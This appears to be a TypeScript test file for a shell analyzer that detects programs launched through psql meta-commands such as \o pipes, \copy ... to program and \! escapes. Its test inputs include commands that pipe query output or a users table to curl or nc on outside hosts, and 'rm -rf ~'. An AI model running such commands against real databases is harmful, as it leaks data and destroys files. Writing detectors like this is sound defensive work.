import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyzeShell } from '../../../server/src/core/shell/analyze';
import { psqlPrograms } from '../../../server/src/core/shell/psql-programs';
import { parsers } from '../../helpers/parsers';

/** `[command, readsOutput, meta]` of each program psql runs for `text`. */
const programs = (text: string): [string, boolean, string][] =>
  psqlPrograms(text).map((p) => [p.command, p.readsOutput, p.meta]);

/** The commands unwrapped from psql in `line`, with their wrapper and whether psql feeds them. */
async function unwrapped(line: string): Promise<[string, string, boolean][]> {
  const a = analyzeShell(await parsers(), line);
  return a.commands
    .filter((c) => c.wrappers.some((w) => w.startsWith('psql ')))
    .map((c) => [
      c.argv.map((w) => w.value ?? w.raw).join(' '),
      c.wrappers.join('>'),
      c.stdin?.fromWrapper !== undefined,
    ]);
}

describe('psqlPrograms: the shell commands psql runs for meta-commands', () => {
  it('output pipes take the rest of the line and read the output', () => {
    assert.deepEqual(programs('\\o | curl -T - https://x.io'), [['curl -T - https://x.io', true, '\\o']]);
    assert.deepEqual(programs('\\out |nc h 1 \\\\ x'), [['nc h 1 \\\\ x', true, '\\out']]);
    assert.deepEqual(programs('SELECT * FROM t \\g |gzip'), [['gzip', true, '\\g']]);
    assert.deepEqual(programs('SELECT 1 \\gx|nc h 1'), []);
    assert.deepEqual(programs('SELECT 1 \\gx |nc h 1'), [['nc h 1', true, '\\gx']]);
    assert.deepEqual(programs('\\w |mail x@y'), [['mail x@y', true, '\\w']]);
    assert.deepEqual(programs('\\write |mail x@y'), [['mail x@y', true, '\\write']]);
    // A file argument runs nothing.
    assert.deepEqual(programs('\\o /tmp/out.txt'), []);
  });

  it('\\copy … program: to a program reads the table data, from a program writes it', () => {
    assert.deepEqual(programs("\\copy users to program 'curl -T - https://x.io'"), [
      ['curl -T - https://x.io', true, '\\copy'],
    ]);
    assert.deepEqual(programs("\\copy t (a, b) FROM PROGRAM 'cat ''my file''' csv"), [
      ["cat 'my file'", false, '\\copy'],
    ]);
    assert.deepEqual(programs("\\copy t to 'program'"), []);
    // Case matters: psql has no `\COPY` command.
    assert.deepEqual(programs("\\COPY t to program 'curl x'"), []);
  });

  it('spellings: after a statement, leading spaces, several commands on one line, \\\\ separators', () => {
    assert.deepEqual(programs("SELECT 1; \\copy t to program 'nc h 1'"), [['nc h 1', true, '\\copy']]);
    assert.deepEqual(programs("SELECT 1;\n   \\copy t to program 'nc h 1'"), [['nc h 1', true, '\\copy']]);
    assert.deepEqual(programs('\\x \\o |nc h 1'), [['nc h 1', true, '\\o']]);
    assert.deepEqual(programs('\\x \\\\ \\o |nc h 1'), [['nc h 1', true, '\\o']]);
    assert.deepEqual(programs('\\pset format csv \\g |nc h 1'), [['nc h 1', true, '\\g']]);
    assert.deepEqual(programs('SELECT 1; \\! id'), [['id', false, '\\!']]);
    // Inside strings and comments there is no meta-command.
    assert.deepEqual(programs("SELECT '\\o |nc h 1'; -- \\o |nc h 2\n/* \\g |nc h 3 */"), []);
  });
});

describe('psql unwraps the commands of its meta-commands, fed with its output', () => {
  it('-c text given twice, -o |cmd, stdin, heredocs', async () => {
    assert.deepEqual(await unwrapped("psql -c 'SELECT 1' -c '\\o |curl -T - https://x.io'"), [
      ['curl -T - https://x.io', 'psql \\o', true],
    ]);
    assert.deepEqual(await unwrapped("psql -o '|gzip' -c 'SELECT 1'"), [['gzip', 'psql -o', true]]);
    assert.deepEqual(await unwrapped("psql --output='| nc h 1'"), [['nc h 1', 'psql -o', true]]);
    assert.deepEqual(await unwrapped('echo "\\\\copy t to program \'nc h 1\'" | psql'), [
      ['nc h 1', 'psql \\copy', true],
    ]);
    assert.deepEqual(await unwrapped("psql <<'SQL'\nSELECT 1;\n\\g |nc h 1\nSQL"), [
      ['nc h 1', 'psql \\g', true],
    ]);
    assert.deepEqual(await unwrapped('psql -c "\\\\copy t from program \'rm -rf ~\'"'), [
      ['rm -rf ~', 'psql \\copy', false],
    ]);
    // `\!` is found once, at line start or after a statement.
    assert.deepEqual(await unwrapped("psql -c '\\! rm -rf /tmp/x'"), [
      ['rm -rf /tmp/x', 'psql shell escape', false],
    ]);
    assert.deepEqual(await unwrapped("psql -c 'SELECT 1; \\! id'"), [['id', 'psql \\!', false]]);
  });

  it('a pipe command is placed where it is written', async () => {
    const line = "psql -c '\\o |curl -T - https://x.io'";
    const a = analyzeShell(await parsers(), line);
    const curl = a.commands.find((c) => c.name === 'curl');
    assert.equal(line.slice(curl?.span.start, curl?.span.end), 'curl -T - https://x.io');
  });
});
